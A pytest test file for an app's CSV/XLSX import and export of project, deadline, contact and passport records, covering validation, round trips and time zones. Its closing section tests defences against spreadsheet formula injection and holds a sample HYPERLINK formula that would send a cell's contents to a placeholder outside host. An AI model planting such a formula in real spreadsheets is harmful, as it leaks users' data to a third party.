"""Import and export of CSV and XLSX: all-or-nothing validation, round trips, idempotent upserts."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any, Literal
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from sqlalchemy import delete, func, select
from sqlalchemy.orm import selectinload

from eudesk.storage.db import Database, StorageError
from eudesk.storage.models import (
    Body,
    Contact,
    Deadline,
    Meeting,
    PassportRecord,
    PassportStatusEvent,
    Project,
)
from eudesk.storage.transfer import (
    KINDS,
    ImportRejected,
    UnknownKind,
    UnsupportedFormat,
    export_file,
    import_file,
)
from eudesk.storage.transfer.readers import read_rows
from tests.storage.transfer_fixtures import CANONICAL, ensure_reference, write_csv

MODELS: dict[str, Any] = {
    "projects": Project,
    "deadlines": Deadline,
    "meetings": Meeting,
    "contacts": Contact,
    "passports": PassportRecord,
}


@pytest.fixture
async def refs(db: Database) -> Database:
    await ensure_reference(db)
    return db


async def count(db: Database, model: Any) -> int:
    async with db.transaction() as session:
        return int(await session.scalar(select(func.count()).select_from(model)) or 0)


def rows_of(path: Path, kind: str) -> list[dict[str, str | None]]:
    return [cells for _line, cells in read_rows(path, kind)]


def where(exc: ImportRejected) -> list[tuple[int, str | None]]:
    return [(error.line, error.column) for error in exc.errors]


async def test_deadlines_with_three_bad_rows_are_rejected_whole(
    refs: Database, tmp_path: Path
) -> None:
    db = refs
    await import_file(db, "projects", write_csv(tmp_path / "p.csv", CANONICAL["projects"]))
    await import_file(db, "deadlines", write_csv(tmp_path / "d.csv", CANONICAL["deadlines"]))
    before = await count(db, Deadline)
    bad = write_csv(
        tmp_path / "bad.csv",
        "ref,kind,title,due,project\n"
        "D-100,report,Good one,2026-05-01 12:00,HUSRB/2301/11/001\n"
        "D-101,report,Bad date,31.02.2026. 10:00,\n"
        "D-001,other,Good update of an existing one,2026-05-02,\n"
        "D-102,report,Unknown project,2026-05-03,NOPE/1\n"
        "D-103,deadline,Bad kind,2026-05-04,\n"
        "D-104,report,Good too,2026-05-05 08:00,\n",
    )
    with pytest.raises(ImportRejected) as caught:
        await import_file(db, "deadlines", bad)
    assert where(caught.value) == [(3, "due"), (5, "project"), (6, "kind")]
    message = str(caught.value)
    assert "line 3, column due: '31.02.2026. 10:00' is not a date" in message
    assert "line 5, column project: unknown project 'NOPE/1'" in message
    assert "line 6, column kind: Input should be 'call_for_proposals'" in message
    assert len(message.splitlines()) == 4
    assert isinstance(caught.value, StorageError)
    assert await count(db, Deadline) == before
    async with db.transaction() as session:
        d001 = await session.scalar(select(Deadline).where(Deadline.ref == "D-001"))
        assert d001 is not None
        assert (d001.title, d001.version) == ("Periodični izveštaj 3", 1)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("kind", KINDS)
async def test_round_trip(
    refs: Database, tmp_path: Path, kind: str, fmt: Literal["csv", "xlsx"]
) -> None:
    db = refs
    for needed in KINDS[: KINDS.index(kind)]:  # projects come before the deadlines that cite them
        await import_file(db, needed, write_csv(tmp_path / f"{needed}.csv", CANONICAL[needed]))
    source = write_csv(tmp_path / f"{kind}-source.csv", CANONICAL[kind])
    first = await import_file(db, kind, source)
    expected = len(rows_of(source, kind))
    assert (first.created, first.updated, first.unchanged) == (expected, 0, 0)

    exported = tmp_path / f"{kind}-export.{fmt}"
    assert await export_file(db, kind, exported, fmt) == expected
    assert rows_of(exported, kind) == rows_of(source, kind)

    again = await import_file(db, kind, exported)  # idempotent: nothing changes
    assert (again.created, again.updated, again.unchanged) == (0, 0, expected)

    async with db.transaction() as session:  # and from the export alone, everything comes back
        await session.execute(delete(MODELS[kind]))
    recreated = await import_file(db, kind, exported)
    assert (recreated.created, recreated.updated) == (expected, 0)
    second = tmp_path / f"{kind}-second.{fmt}"
    await export_file(db, kind, second, fmt)
    assert rows_of(second, kind) == rows_of(source, kind)


async def test_updates_bump_versions_and_record_status_history(
    refs: Database, tmp_path: Path
) -> None:
    db = refs
    await import_file(db, "projects", write_csv(tmp_path / "p.csv", CANONICAL["projects"]))
    await import_file(db, "deadlines", write_csv(tmp_path / "d.csv", CANONICAL["deadlines"]))
    await import_file(db, "passports", write_csv(tmp_path / "pp.csv", CANONICAL["passports"]))
    moved = CANONICAL["deadlines"].replace("2026-06-15 14:00", "2026-06-16")
    report = await import_file(db, "deadlines", write_csv(tmp_path / "d2.csv", moved))
    assert (report.created, report.updated, report.unchanged) == (0, 1, 2)
    delivered = CANONICAL["passports"].replace("D0012345,issued", "D0012345,delivered")
    report = await import_file(db, "passports", write_csv(tmp_path / "pp2.csv", delivered))
    assert (report.created, report.updated, report.unchanged) == (0, 1, 1)
    await import_file(db, "passports", write_csv(tmp_path / "pp3.csv", delivered))
    async with db.transaction() as session:
        d002 = await session.scalar(select(Deadline).where(Deadline.ref == "D-002"))
        assert d002 is not None
        assert d002.version == 2
        assert d002.due_at == datetime(2026, 6, 16, 21, 59, tzinfo=UTC)  # 23:59 in summer time
        record = await session.scalar(
            select(PassportRecord)
            .where(PassportRecord.reference == "P-2026-001")
            .options(selectinload(PassportRecord.history))
        )
        assert record is not None
        assert [event.status.value for event in record.history] == ["issued", "delivered"]
        events = await session.scalar(select(func.count()).select_from(PassportStatusEvent))
        assert events == 3  # one per new record, one for the change; none for the re-import


async def test_semicolon_csv_with_bom_and_serbian_amounts(refs: Database, tmp_path: Path) -> None:
    db = refs
    path = tmp_path / "excel.csv"
    path.write_bytes(
        "\ufeffcode;acronym;title;programme;status;total_budget;eu_contribution;partners\r\n"
        "HUSRB/9;ČAROBNI;Čarobni Dunav, Бачка;HUSRB;submitted;"
        "12.500,00;10625,5;Újvidék [HU]\r\n".encode()
    )
    report = await import_file(db, "projects", path)
    assert report.created == 1
    async with db.transaction() as session:
        project = await session.scalar(
            select(Project).where(Project.code == "HUSRB/9").options(selectinload(Project.partners))
        )
        assert project is not None
        assert project.total_budget == Decimal("12500.00")
        assert project.eu_contribution == Decimal("10625.50")
        assert project.title == "Čarobni Dunav, Бачка"
        assert [(p.name, p.country, p.is_lead) for p in project.partners] == [
            ("Újvidék", "HU", False)
        ]
        assert "carobni dunav, backa" in project.search_key
        assert "ujvidek" in project.search_key


async def test_amounts_that_are_not_money_are_refused(refs: Database, tmp_path: Path) -> None:
    rows = ["12500.00abc", "1e5", "12.500", "-3.00", "12,500.00", "nan"]
    text = "code,acronym,title,programme,status,total_budget\n" + "".join(
        f'X/{i},X,X,HUSRB,planned,"{amount}"\n' for i, amount in enumerate(rows)
    )
    with pytest.raises(ImportRejected) as caught:
        await import_file(refs, "projects", write_csv(tmp_path / "money.csv", text))
    assert where(caught.value) == [(line, "total_budget") for line in range(2, 2 + len(rows))]


async def test_xlsx_bad_row_reports_its_spreadsheet_line(refs: Database, tmp_path: Path) -> None:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append(["ref", "body", "name", "email", "active"])
    sheet.append(["C-1", "LSGU-80071", "Ana", "ana@example.rs", True])
    sheet.append([])  # a blank row still counts as a line in a spreadsheet
    sheet.append(["C-2", "LSGU-80071", "Petar", "petar-at-example.rs", False])
    sheet.append(["C-3", "LSGU-99999", "Ivan", None, 1])
    path = tmp_path / "contacts.xlsx"
    workbook.save(path)
    with pytest.raises(ImportRejected) as caught:
        await import_file(refs, "contacts", path)
    assert where(caught.value) == [(4, "email"), (5, "body")]
    assert await count(refs, Contact) == 0


async def test_header_problems_name_the_column(refs: Database, tmp_path: Path) -> None:
    path = write_csv(
        tmp_path / "m.csv", "ref,title,starts,place,room\nM-1,X,2026-01-01 10:00,NS,5\n"
    )
    with pytest.raises(ImportRejected) as caught:
        await import_file(refs, "meetings", path)
    assert where(caught.value) == [(1, "ends"), (1, "room")]
    assert "line 1, column ends: required column is missing" in str(caught.value)


async def test_duplicate_keys_and_empty_required_cells(refs: Database, tmp_path: Path) -> None:
    text = "ref,kind,title,due\nD-1,report,A,2026-01-01\nD-1,report,B,2026-01-02\nD-2,report,,\n"
    with pytest.raises(ImportRejected) as caught:
        await import_file(refs, "deadlines", write_csv(tmp_path / "d.csv", text))
    assert where(caught.value) == [(3, "ref"), (4, "due"), (4, "title")]
    assert "also on line 2" in str(caught.value)
    assert "a value is required" in str(caught.value)


async def test_unknown_kind_and_format_are_clear(db: Database, tmp_path: Path) -> None:
    path = write_csv(tmp_path / "x.csv", "a\n1\n")
    with pytest.raises(
        UnknownKind, match=r"'visas'; expected one of: projects, deadlines, meetings"
    ):
        await import_file(db, "visas", path)
    with pytest.raises(UnknownKind):
        await export_file(db, "visas", tmp_path / "out.csv", "csv")
    old_excel = tmp_path / "contacts.xls"
    old_excel.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504))
    with pytest.raises(UnsupportedFormat, match=r"contacts.xls: an old .xls workbook"):
        await import_file(db, "contacts", old_excel)
    with pytest.raises(UnsupportedFormat, match="cannot write 'ods'"):
        await export_file(db, "contacts", tmp_path / "contacts.ods", "ods")  # type: ignore[arg-type]


async def test_format_is_read_from_the_content_not_the_name(refs: Database, tmp_path: Path) -> None:
    await import_file(refs, "contacts", write_csv(tmp_path / "c.txt", CANONICAL["contacts"]))
    exported = tmp_path / "contacts-export"  # the CLI lets people name files freely
    assert await export_file(refs, "contacts", exported, "xlsx") == 2
    report = await import_file(refs, "contacts", exported)
    assert str(report) == "contacts from contacts-export: 0 created, 0 updated, 2 unchanged"


async def test_progress_reports_rows_written(refs: Database, tmp_path: Path) -> None:
    seen: list[tuple[int, int | None]] = []
    path = write_csv(tmp_path / "c.csv", CANONICAL["contacts"])
    await import_file(
        refs, "contacts", path, progress=lambda done, total: seen.append((done, total))
    )
    assert seen[-1] == (2, 2)


async def stored_references(db: Database) -> list[str]:
    async with db.transaction() as session:
        found = await session.scalars(select(PassportRecord.reference).order_by("reference"))
        return list(found)


PASSPORT_HEADER = "reference,kind,holder_name,status\n"


async def test_passport_references_are_stored_as_passport_looks_them_up(
    refs: Database, tmp_path: Path
) -> None:
    text = PASSPORT_HEADER + "pas-2026-1,official,A,requested\nДП-1,official,B,requested\n"
    report = await import_file(refs, "passports", write_csv(tmp_path / "p.csv", text))
    assert report.created == 2
    assert await stored_references(refs) == ["DP-1", "PAS-2026-1"]
    again = PASSPORT_HEADER + "PAS-2026-1,official,A,requested\nдп-1,official,B,requested\n"
    report = await import_file(refs, "passports", write_csv(tmp_path / "p2.csv", again))
    assert (report.created, report.unchanged) == (0, 2)


async def test_passport_references_that_cannot_be_looked_up_are_refused(
    refs: Database, tmp_path: Path
) -> None:
    text = PASSPORT_HEADER + (
        "PAS 1,official,A,requested\n"
        "pas-1,official,B,requested\n"
        "PAS-1,official,C,requested\n"
        "-1,official,D,requested\n"
    )
    with pytest.raises(ImportRejected) as caught:
        await import_file(refs, "passports", write_csv(tmp_path / "p.csv", text))
    assert where(caught.value) == [(2, "reference"), (4, "reference"), (5, "reference")]
    message = str(caught.value)
    assert "line 2, column reference: 'PAS 1' is not a passport reference" in message
    assert "line 4, column reference: 'PAS-1' also on line 3" in message
    assert await stored_references(refs) == []


async def test_passport_status_cannot_go_backwards_or_leave_revoked(
    refs: Database, tmp_path: Path
) -> None:
    db = refs
    await import_file(db, "passports", write_csv(tmp_path / "p.csv", CANONICAL["passports"]))
    back = CANONICAL["passports"].replace("D0012345,issued", "D0012345,requested")
    with pytest.raises(ImportRejected) as caught:
        await import_file(db, "passports", write_csv(tmp_path / "back.csv", back))
    assert [str(error) for error in caught.value.errors] == [
        "line 2, column status: status cannot go from issued to requested"
    ]
    revoked = CANONICAL["passports"].replace("D0012345,issued", "D0012345,revoked")
    await import_file(db, "passports", write_csv(tmp_path / "revoked.csv", revoked))
    for status in ("requested", "delivered"):
        again = revoked.replace("D0012345,revoked", f"D0012345,{status}")
        with pytest.raises(ImportRejected, match=f"status cannot go from revoked to {status}"):
            await import_file(db, "passports", write_csv(tmp_path / f"{status}.csv", again))
    forward = CANONICAL["passports"].replace("requested,,", "delivered,,")  # a step skipped
    forward = forward.replace("D0012345,issued", "D0012345,revoked")
    report = await import_file(db, "passports", write_csv(tmp_path / "forward.csv", forward))
    assert (report.updated, report.unchanged) == (1, 1)
    async with db.transaction() as session:
        statuses = await session.execute(
            select(PassportRecord.reference, PassportRecord.status).order_by("reference")
        )
        assert [(ref, status.value) for ref, status in statuses] == [
            ("P-2026-001", "revoked"),
            ("P-2026-002", "delivered"),
        ]


async def test_xlsx_midnight_keeps_its_time_except_in_date_columns(
    refs: Database, tmp_path: Path
) -> None:
    db = refs
    midnight = datetime(2026, 12, 15, 0, 0)
    deadlines = openpyxl.Workbook()
    sheet = deadlines.active
    assert sheet is not None
    sheet.append(["ref", "kind", "title", "due"])
    sheet.append(["D-1", "report", "At midnight", midnight])
    sheet.append(["D-2", "report", "A date cell", midnight])
    sheet["D3"].number_format = "dd.mm.yyyy"  # shown as a date only: due at 23:59 that day
    deadlines.save(tmp_path / "d.xlsx")
    meetings = openpyxl.Workbook()
    sheet = meetings.active
    assert sheet is not None
    sheet.append(["ref", "title", "starts", "ends", "place"])
    sheet.append(["M-1", "Night session", midnight, datetime(2026, 12, 15, 2, 0), "Novi Sad"])
    meetings.save(tmp_path / "m.xlsx")
    projects = openpyxl.Workbook()
    sheet = projects.active
    assert sheet is not None
    sheet.append(["code", "acronym", "title", "programme", "status", "starts_on"])
    sheet.append(["HUSRB/1", "X", "X", "HUSRB", "planned", midnight])
    projects.save(tmp_path / "p.xlsx")

    assert (await import_file(db, "deadlines", tmp_path / "d.xlsx")).created == 2
    assert (await import_file(db, "meetings", tmp_path / "m.xlsx")).created == 1
    assert (await import_file(db, "projects", tmp_path / "p.xlsx")).created == 1
    async with db.transaction() as session:
        due = {ref: at for ref, at in await session.execute(select(Deadline.ref, Deadline.due_at))}
        assert due == {  # Belgrade is UTC+1 in December
            "D-1": datetime(2026, 12, 14, 23, 0, tzinfo=UTC),
            "D-2": datetime(2026, 12, 15, 22, 59, tzinfo=UTC),
        }
        starts = await session.scalar(select(Meeting.starts_at))
        assert starts == datetime(2026, 12, 14, 23, 0, tzinfo=UTC)
        project = await session.scalar(select(Project.starts_on))
        assert project == date(2026, 12, 15)


async def test_times_are_read_and_written_in_the_zone_given(refs: Database, tmp_path: Path) -> None:
    text = "ref,kind,title,due\nD-1,report,Noon,2026-06-15 12:00\n"
    source = write_csv(tmp_path / "d.csv", text)
    await import_file(refs, "deadlines", source, zone=ZoneInfo("America/New_York"))
    async with refs.transaction() as session:
        assert await session.scalar(select(Deadline.due_at)) == datetime(
            2026, 6, 15, 16, 0, tzinfo=UTC
        )
    out = tmp_path / "out.csv"
    await export_file(refs, "deadlines", out, "csv", zone=ZoneInfo("UTC"))
    assert rows_of(out, "deadlines")[0]["due"] == "2026-06-15 16:00"
    await export_file(refs, "deadlines", out, "csv")  # Belgrade, summer time
    assert rows_of(out, "deadlines")[0]["due"] == "2026-06-15 18:00"


# --- spreadsheet safety (CSV injection) -------------------------------------------------------

FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"klik")'
# Text a spreadsheet would take for a formula, and text that only looks neutralised already.
TRICKY = {"name": "@ana", "position": FORMULA, "phone": "+381 24 715 310", "email": None,
          "slack_channel": "-C01"}  # fmt: skip
TRICKY_NAMES = ["@ana", "-Ana-", "+Mile", "'=already", "'plain apostrophe", "Ana =x"]


async def add_contacts(db: Database, names: list[str], **fields: Any) -> None:
    async with db.transaction() as session:
        body = await session.scalar(select(Body.id).where(Body.code == "LSGU-80071"))
        assert body is not None
        for i, name in enumerate(names):
            session.add(Contact(ref=f"C-X{i}", body_id=body, name=name, **fields))


async def contact_values(db: Database) -> list[tuple[str, str, str | None, str | None]]:
    async with db.transaction() as session:
        found = await session.scalars(select(Contact).order_by(Contact.ref))
        return [(c.ref, c.name, c.position, c.phone) for c in found]


async def test_a_formula_is_exported_to_csv_as_text(refs: Database, tmp_path: Path) -> None:
    db = refs
    await add_contacts(db, [FORMULA], position="+1 boss", phone="+381 24 715 310")
    await import_file(db, "projects", write_csv(tmp_path / "p.csv", CANONICAL["projects"]))
    exported = tmp_path / "contacts.csv"
    await export_file(db, "contacts", exported, "csv")
    raw = list(csv.DictReader(io.StringIO(exported.read_text(encoding="utf-8-sig"))))
    assert raw[0]["name"] == "'" + FORMULA  # a spreadsheet shows it as text
    assert raw[0]["position"] == "'+1 boss"
    assert raw[0]["phone"] == "'+381 24 715 310"
    assert raw[0]["active"] == "true"
    # Amounts are numbers, not neutralised text.
    await export_file(db, "projects", tmp_path / "projects.csv", "csv")
    projects = list(csv.DictReader(io.StringIO((tmp_path / "projects.csv").read_text("utf-8-sig"))))
    assert projects[0]["total_budget"] == "812500.00"
    assert not any(v.startswith("'") for p in projects for v in p.values())
    # XLSX keeps the very text, stored as text.
    await export_file(db, "contacts", tmp_path / "contacts.xlsx", "xlsx")
    sheet = openpyxl.load_workbook(tmp_path / "contacts.xlsx").worksheets[0]
    assert (sheet["C2"].value, sheet["C2"].data_type) == (FORMULA, "s")


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
async def test_text_that_looks_like_a_formula_round_trips_exactly(
    refs: Database, tmp_path: Path, fmt: Literal["csv", "xlsx"]
) -> None:
    db = refs
    await add_contacts(db, TRICKY_NAMES, position=FORMULA, phone="+381 24 715 310")
    before = await contact_values(db)
    exported = tmp_path / f"contacts.{fmt}"
    await export_file(db, "contacts", exported, fmt)
    async with db.transaction() as session:
        await session.execute(delete(Contact))
    report = await import_file(db, "contacts", exported)
    assert report.created == len(TRICKY_NAMES)
    assert await contact_values(db) == before
    # and once more, from a second export of what came back
    again = tmp_path / f"again.{fmt}"
    await export_file(db, "contacts", again, fmt)
    assert rows_of(again, "contacts") == rows_of(exported, "contacts")


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
async def test_names_and_titles_that_begin_with_a_formula_are_refused(
    refs: Database, tmp_path: Path, fmt: str
) -> None:
    db = refs
    contacts = write_csv(
        tmp_path / "contacts.csv",
        "ref,body,name,position\n"
        "C-1,LSGU-80071,Ana Kovač,=this is a position\n"
        f'C-2,LSGU-80071,"{FORMULA.replace(chr(34), chr(34) * 2)}",\n'
        "C-3,LSGU-80071,'=SUM(1),\n",  # the neutralised form means the same: refused
    )
    deadlines = write_csv(
        tmp_path / "deadlines.csv", "ref,kind,title,due\nD-9,report,=1+1,2026-05-01\n"
    )
    if fmt == "xlsx":
        contacts, deadlines = as_xlsx(contacts), as_xlsx(deadlines)
    with pytest.raises(ImportRejected) as caught:
        await import_file(db, "contacts", contacts)
    expected = [(3, "name"), (4, "name")] if fmt == "csv" else [(3, "name")]
    assert where(caught.value) == expected
    assert "begins with '='" in str(caught.value)
    with pytest.raises(ImportRejected) as caught:
        await import_file(db, "deadlines", deadlines)
    assert where(caught.value) == [(2, "title")]
    assert await count(db, Contact) == 0


def as_xlsx(path: Path) -> Path:
    """The CSV's cells in a workbook, every cell text (as a person would type them)."""
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    assert sheet is not None
    with path.open(encoding="utf-8", newline="") as handle:
        for row in csv.reader(handle):
            sheet.append(row)
    for row in sheet.iter_rows():
        for cell in row:
            cell.data_type = "s"
    target = path.with_suffix(".xlsx")
    workbook.save(target)
    return target
